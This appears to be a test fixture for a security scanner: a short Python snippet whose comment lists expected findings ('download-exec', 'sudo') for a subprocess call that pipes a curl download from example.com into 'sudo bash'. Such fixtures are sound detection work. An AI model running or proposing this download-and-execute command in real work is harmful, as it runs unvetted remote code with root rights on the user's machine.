# expect: download-exec 4:17 sudo 4:53
import subprocess

subprocess.run("curl -sL https://example.com/i.sh | sudo bash", shell=True)
